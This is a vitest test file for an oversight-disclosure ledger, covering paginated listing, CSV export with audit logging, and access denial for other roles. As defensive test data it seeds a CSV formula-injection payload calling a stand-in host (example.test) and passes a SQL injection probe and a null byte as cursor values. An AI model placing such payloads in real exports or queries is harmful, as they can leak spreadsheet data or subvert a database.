import { randomUUID } from "node:crypto"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import type { TestApp } from "#tests/support/app.ts"
import { startTestApp } from "#tests/support/app.ts"
import { readPage } from "#tests/support/html-page.ts"
import { attribute, elementsIn } from "#tests/support/html-tree.ts"
import { signedIn } from "#tests/support/office-client.ts"
import type { Sql } from "#tests/support/sql.ts"
import { connect } from "#tests/support/sql.ts"

let app: TestApp
let owner: Sql

beforeAll(async () => {
  app = await startTestApp()
  owner = connect(app.ownerUrl)
})
afterAll(async () => {
  await owner.end()
  await app.close()
})

describe("UC-29 the ledger of identities, a page at a time and as a file", () => {
  const lines = 60
  const ids = Array.from({ length: lines }, () => randomUUID())
  const formula = '=HYPERLINK("https://example.test?"&A1)'

  beforeAll(async () => {
    await owner`delete from oversight_disclosure`
    const many = ids.map((id, at) => ({
      ...{ id, pseudonym: at.toString(16).padStart(32, "0"), asked_by: "f".repeat(32), state: "closed" },
      // Several on one day, so that a place within a day is needed to go on.
      ...{ asked_on: `2026-10-${String(1 + Math.floor(at / 20)).padStart(2, "0")}`, notice: "before" },
      ground: at === 0 ? formula : "protection",
    }))
    await owner`insert into oversight_disclosure ${owner(many)}`
  })

  const page = async (path: string) => {
    const oversight = await signedIn(app, "giam-sat")
    const answer = await oversight.call(path)
    const links = [...elementsIn(readPage(answer.text).root)].filter(({ tag }) => tag === "a")
    const to = (wanted: (href: string) => boolean) =>
      links.map((one) => attribute(one, "href")).filter(wanted)
    const next = links.find((one) => attribute(one, "rel") === "next")
    return {
      status: answer.status,
      cases: to((href) => href.startsWith("/oversight/cases/")),
      next: next === undefined ? null : attribute(next, "href").replaceAll("&amp;", "&"),
    }
  }

  test("every line is on exactly one page, newest first", async () => {
    const seen: string[] = []
    let at: string | null = "/oversight/disclosures"
    let pages = 0
    while (at !== null && pages < 10) {
      const shown: Awaited<ReturnType<typeof page>> = await page(at)
      expect(shown.status).toBe(200)
      seen.push(...shown.cases)
      at = shown.next
      pages++
    }
    expect(pages).toBe(3)
    expect(new Set(seen).size).toBe(lines)
    expect(seen).toHaveLength(lines)
    // The last day first.
    expect(seen[0]).toMatch(/0000(2[89a-f]|3[0-9a-b])$/)
  })

  test("the file has every line and no formula, and is an event", async () => {
    const oversight = await signedIn(app, "giam-sat")
    const taken = () =>
      owner<
        { count: number }[]
      >`select count(*)::int as count from audit_event where type = 'oversight.looked'`
    const [before] = await taken()
    const { status, text, headers } = await oversight.call("/oversight/tables/disclosures.csv")
    expect(status).toBe(200)
    expect(headers.get("Content-Type")).toContain("text/csv")
    const records = text.trim().split("\r\n")
    expect(records).toHaveLength(lines + 1)
    expect(records[0]).toContain("Người giữ chìa A")
    for (const record of records) expect(record).not.toMatch(/(^|,)"?[=+@]/)
    const [after] = await taken()
    expect(after?.count).toBe((before?.count ?? 0) + 1)
  })

  test("a place that no link names begins the list anew; nobody else gets it", async () => {
    const first = await page("/oversight/disclosures")
    for (const after of [
      "x",
      "2026-10-01",
      "2026-02-31~x",
      `2026-10-01~${"0".repeat(36)}`,
      "'; select 1 --",
      "%00",
    ])
      expect((await page(`/oversight/disclosures?after=${encodeURIComponent(after)}`)).cases, after).toEqual(
        first.cases,
      )
    for (const login of ["quach-gia", "cao-thu", "quan-tri", "dieu-tra"])
      expect(
        (await (await signedIn(app, login)).call("/oversight/tables/disclosures.csv")).status,
        login,
      ).toBe(403)
  })
})
